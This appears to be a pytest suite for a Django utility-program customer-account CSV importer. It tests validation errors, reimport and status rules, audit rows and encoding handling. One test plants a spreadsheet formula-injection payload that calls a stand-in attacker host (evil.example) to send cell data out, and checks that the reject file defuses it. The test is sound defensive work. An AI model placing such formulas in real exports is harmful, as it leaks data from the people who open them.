"""The eligible-customer import: validation, reload rules, status safety, audit rows."""

import csv
from io import StringIO

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from accounts.models import ImportRun, ServiceAccount, Status, StatusChange
from accounts.services.importing import ImportRejected, accounts_import, workers
from accounts.services.status import Actor, account_transition
from tests.importing.conftest import row

pytestmark = pytest.mark.django_db
ACTOR = Actor("test-import")


def load(program, path, **kw):
    return accounts_import(program=program, path=path, actor=ACTOR, progress=False, **kw)


def test_loads_rows_normalised(program, write_csv):
    path = write_csv(
        [
            row(1),
            row(
                2,
                mailing_address="PO Box 12",
                mailing_city="Novato",
                mailing_state="california",
                mailing_zip="949451234",
                phone="+1 415 555 0199",
            ),
        ]
    )
    result = load(program, path)
    assert (result.created, result.updated, result.rejected) == (2, 0, 0)
    a = ServiceAccount.objects.get(account_number="3000000001")
    assert a.service_address == "101 N MAIN ST APT 4"
    assert a.service_city == "SAN RAFAEL"
    assert (a.mailing_address, a.mailing_state, a.mailing_zip) == (
        "101 N MAIN ST APT 4",
        "CA",
        "94901",
    )
    assert a.phone == "+14155550101"
    assert a.language == "es" and a.status == Status.ELIGIBLE
    assert a.phase.name == "Phase 1" and a.product.code == "light-green"
    assert len(a.opt_out_code) == 10
    b = ServiceAccount.objects.get(account_number="3000000002")
    assert (b.mailing_address, b.mailing_city, b.mailing_state, b.mailing_zip) == (
        "PO BOX 12",
        "NOVATO",
        "CA",
        "94945-1234",
    )
    assert b.phone == "+14155550199"
    # A plain eligible account's history starts with the import run that created it.
    assert not StatusChange.objects.filter(account=a).exists()
    run = ImportRun.objects.get()
    assert a.import_run == run
    assert (run.outcome, run.created, run.rows, run.actor) == (
        ImportRun.Outcome.LOADED,
        2,
        2,
        "test-import",
    )
    assert len(run.sha256) == 64


def test_bad_rows_named_by_line_and_column_and_nothing_written(program, write_csv):
    path = write_csv(
        [
            row(1),
            row(2, customer_class="residental"),
            row(3, service_zip="9490"),
            row(4, care="yes"),
            row(5, rate_schedule="GS-1"),
            row(6, phone="555"),
            row(7, language="english"),
            row(8, phase="Phase 9"),
            row(1, customer_name="Dup"),
        ]
    )
    with pytest.raises(ImportRejected) as exc:
        load(program, path)
    found = {(e.line, e.column) for e in exc.value.errors}
    assert found == {
        (3, "customer_class"),
        (4, "service_zip"),
        (5, "care"),
        (6, "rate_schedule"),
        (7, "phone"),
        (8, "language"),
        (9, "phase"),
        (10, "account_number"),
    }
    reasons = {(e.line, e.column): e.reason for e in exc.value.errors}
    assert (
        reasons[(6, "rate_schedule")]
        == "'GS-1' is a small_commercial tariff but customer_class is residential"
    )
    assert reasons[(10, "account_number")] == "'3000000001' already appears on line 2"
    assert ServiceAccount.objects.count() == 0 and StatusChange.objects.count() == 0
    assert ImportRun.objects.get().outcome == ImportRun.Outcome.REJECTED


def test_skip_invalid_loads_good_rows_and_writes_rejects(program, write_csv):
    path = write_csv([row(1), row(2, care="maybe"), row(3), row(3, customer_name="Again")])
    result = load(program, path, skip_invalid=True)
    assert (result.created, result.rejected) == (2, 2)
    assert set(ServiceAccount.objects.values_list("account_number", flat=True)) == {
        "3000000001",
        "3000000003",
    }
    with open(result.reject_file, newline="") as fh:
        rejects = list(csv.DictReader(fh))
    assert [(r["account_number"], r["reject_line"], r["reject_column"]) for r in rejects] == [
        ("3000000002", "3", "care"),
        ("3000000003", "5", "account_number"),
    ]
    assert rejects[0]["care"] == "maybe"  # the row as it was in the file
    assert ImportRun.objects.get().outcome == ImportRun.Outcome.PARTIAL


def test_missing_and_unknown_columns(program, write_csv):
    r = row(1)
    del r["phone"]
    r["enrolment_date"] = "2027-03-01"
    path = write_csv([r], header=list(r))
    with pytest.raises(ImportRejected) as exc:
        load(program, path)
    msgs = {(e.column, e.reason) for e in exc.value.errors}
    assert ("phone", "required column is missing") in msgs
    assert ("enrolment_date", "unknown column (did you mean enrollment_date?)") in msgs


def test_reimport_updates_changed_and_never_duplicates(program, write_csv):
    load(program, write_csv([row(1), row(2)]))
    codes = dict(ServiceAccount.objects.values_list("account_number", "opt_out_code"))
    result = load(
        program, write_csv([row(1), row(2, email="new@example.org"), row(3)], name="second.csv")
    )
    assert (result.created, result.updated, result.unchanged) == (1, 1, 1)
    assert ServiceAccount.objects.count() == 3
    assert ServiceAccount.objects.get(account_number="3000000002").email == "new@example.org"
    # the personal code printed on earlier mailers stays valid
    assert (
        ServiceAccount.objects.get(account_number="3000000001").opt_out_code == codes["3000000001"]
    )
    again = load(
        program, write_csv([row(1), row(2, email="new@example.org"), row(3)], name="third.csv")
    )
    assert (again.created, again.updated, again.unchanged) == (0, 0, 3)
    first_run = ImportRun.objects.order_by("pk").first()
    assert ServiceAccount.objects.get(account_number="3000000002").import_run == first_run


def test_reimport_never_reenrolls_or_moves_status_backwards(program, write_csv):
    load(program, write_csv([row(1), row(2)]))
    a1 = ServiceAccount.objects.get(account_number="3000000001")
    account_transition(
        account=a1, to_status=Status.OPTED_OUT_PRE, channel="web", actor=Actor("customer")
    )
    a2 = ServiceAccount.objects.get(account_number="3000000002")
    account_transition(
        account=a2, to_status=Status.ENROLLED, channel="system", actor=Actor("system")
    )
    path = write_csv(
        [row(1, status="enrolled", enrollment_date="2027-03-03"), row(2, status="eligible")],
        name="reload.csv",
    )
    result = load(program, path)
    a1.refresh_from_db()
    a2.refresh_from_db()
    assert a1.status == Status.OPTED_OUT_PRE
    assert a2.status == Status.ENROLLED
    assert result.status_kept == 2


def test_status_moves_forward_with_audit(program, write_csv):
    load(program, write_csv([row(1)]))
    path = write_csv([row(1, status="participant", enrollment_date="2027-03-03")], name="fwd.csv")
    result = load(program, path)
    a = ServiceAccount.objects.get()
    assert a.status == Status.PARTICIPANT and str(a.enrollment_date) == "2027-03-03"
    assert result.updated == 1
    last = a.status_changes.order_by("-id").first()
    assert (last.from_status, last.to_status) == ("eligible", "participant")
    assert "status from the file" in last.reason


def test_new_account_number_for_opted_out_customer_stays_out(program, write_csv):
    load(program, write_csv([row(1)]))
    old = ServiceAccount.objects.get()
    account_transition(
        account=old, to_status=Status.OPTED_OUT_PRE, channel="ivr", actor=Actor("ivr")
    )
    # same customer and premises, new account number (an account-number change at the utility)
    result = load(
        program,
        write_csv(
            [row(1), row(1, account_number="9999999999", customer_name="MARIA  LOPEZ 1")],
            name="renumbered.csv",
        ),
    )
    new = ServiceAccount.objects.get(account_number="9999999999")
    assert new.status == Status.OPTED_OUT_PRE
    assert result.inherited_opt_outs == 1
    change = new.status_changes.get()
    assert (change.from_status, change.to_status, change.channel) == ("", "opted_out_pre", "import")
    assert "opted-out account 3000000001" in change.reason


def test_enrolled_population_requires_enrollment_date(program, write_csv):
    path = write_csv(
        [
            row(1, status="enrolled", enrollment_date="", product="deep-green"),
            row(2, status="participant", enrollment_date="2026-13-01", product=""),
        ]
    )
    with pytest.raises(ImportRejected) as exc:
        load(program, path)
    assert {(e.line, e.column) for e in exc.value.errors} == {
        (2, "enrollment_date"),
        (3, "enrollment_date"),
    }


def test_phase_assigned_by_rule_when_blank(program, write_csv):
    load(
        program,
        write_csv([row(1, phase="", customer_class="small_commercial", rate_schedule="GS-1")]),
    )
    assert ServiceAccount.objects.get().phase.name == "Phase 2"


def test_command_exit_and_summary(program, write_csv):
    out = StringIO()
    call_command("import_accounts", str(write_csv([row(1)])), "--program", "marin", stdout=out)
    assert "1 rows: 1 created, 0 updated, 0 unchanged, 0 rejected" in out.getvalue()
    with pytest.raises(CommandError, match=r"line 2, care: 'x' must be Y or N"):
        call_command(
            "import_accounts",
            str(write_csv([row(2, care="x")], name="bad.csv")),
            "--program",
            "marin",
        )
    with pytest.raises(CommandError, match="no program with slug 'nope'"):
        call_command("import_accounts", str(write_csv([row(3)], name="c.csv")), "--program", "nope")


def test_migrating_population_gets_its_status_in_the_history(program, write_csv):
    load(
        program,
        write_csv(
            [row(1, status="participant", enrollment_date="2026-03-03", product="deep-green")]
        ),
    )
    a = ServiceAccount.objects.get()
    assert (a.status, a.product.code) == (Status.PARTICIPANT, "deep-green")
    change = a.status_changes.get()
    assert (change.from_status, change.to_status) == ("", "participant")
    assert "line 2: account created with its status from the file" in change.reason


def test_blocks_split_only_between_records(program, write_csv, monkeypatch):
    """Workers parse the file in blocks; a quoted field with a line break never straddles two."""
    monkeypatch.setattr(workers, "BLOCK", 64)
    rows = [row(n) for n in range(1, 30)]
    rows[4]["customer_name"] = 'Garcia, "Lupe"\nc/o Maria'
    result = load(program, write_csv(rows))
    assert (result.created, result.rejected) == (29, 0)
    assert (
        ServiceAccount.objects.get(account_number="3000000005").customer_name
        == 'Garcia, "Lupe" c/o Maria'
    )
    bad = write_csv([*rows[:10], row(40, care="x"), *rows[10:]], name="bad.csv")
    with pytest.raises(ImportRejected) as exc:
        load(program, bad)
    # line numbers count the physical lines: row 5's name spans two
    assert [(e.line, e.column) for e in exc.value.errors] == [(13, "care")]


def test_text_that_is_not_utf8_is_reported_by_line(program, write_csv, tmp_path):
    path = write_csv([row(1), row(2)])
    path.write_bytes(path.read_bytes().replace(b"Maria Lopez 2", b"Mar\xeda Lopez 2"))
    with pytest.raises(ImportRejected) as exc:
        load(program, path)
    assert [(e.line, e.column) for e in exc.value.errors] == [(3, "row")]
    assert "is not UTF-8 text" in exc.value.errors[0].reason
    assert ServiceAccount.objects.count() == 0


def test_reject_file_guards_cells_a_spreadsheet_would_run(program, write_csv):
    """Staff open the reject file in a spreadsheet: a planted formula comes out as text."""
    planted = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    path = write_csv([row(1), row(2, customer_name=planted, care="maybe", phone="+1 415 555 0102")])
    result = load(program, path, skip_invalid=True)
    with open(result.reject_file, newline="") as fh:
        rejects = list(csv.DictReader(fh))
    assert len(rejects) == 1
    assert rejects[0]["customer_name"] == "'" + planted
    assert rejects[0]["phone"] == "'+1 415 555 0102"
    assert rejects[0]["care"] == "maybe" and rejects[0]["reject_line"] == "3"


@pytest.mark.parametrize(
    "column, value, reason",
    [
        ("account_number", "30000\x0000002", "contains a NUL character (\\x00)"),
        ("customer_name", "Maria\x00 Lopez", "contains a NUL character (\\x00)"),
        ("email", "m\x00@example.org", "contains a NUL character (\\x00)"),
        ("customer_name", "M" * 120_000, "is 120000 characters long; a field holds at most 1000"),
        ("service_address", "1 " + "Main " * 300, "characters long; a field holds at most 1000"),
        ("customer_name", "Maria " + "Lopez" * 60, "is 306 characters long; at most 200 fit"),
    ],
)
def test_nul_or_overlong_field_is_a_row_error_not_a_failed_copy(
    program, write_csv, column, value, reason
):
    """On PostgreSQL a NUL cannot be stored and a value wider than its column fails inside COPY:
    the validator names the row and field instead, and the run ends."""
    path = write_csv([row(1), row(2, **{column: value}), row(3)])
    with pytest.raises(ImportRejected) as exc:
        load(program, path)
    [error] = exc.value.errors
    assert (error.line, error.column) == (3, column) and reason in error.reason
    assert "\x00" not in error.reason and len(error.reason) < 200
    assert ImportRun.objects.get().outcome == ImportRun.Outcome.REJECTED
    result = load(program, path, skip_invalid=True)
    assert (result.created, result.rejected) == (2, 1)
    assert ImportRun.objects.latest("pk").outcome == ImportRun.Outcome.PARTIAL


@pytest.mark.parametrize(
    "column, value",
    [
        ("phone", "(911) 555-0123"),  # no such area code: the admin refuses it too
        ("phone", "555-234-5678"),
        ("phone", "(415) 155-0123"),
        ("email", "maria@@example.org"),
        ("email", "maria..lopez@example.org"),
        ("email", "maria@-example.org"),
    ],
)
def test_phone_and_email_are_checked_as_every_route_checks_them(program, write_csv, column, value):
    path = write_csv([row(1, **{column: value})])
    with pytest.raises(ImportRejected) as exc:
        load(program, path)
    assert [(e.line, e.column) for e in exc.value.errors] == [(2, column)]
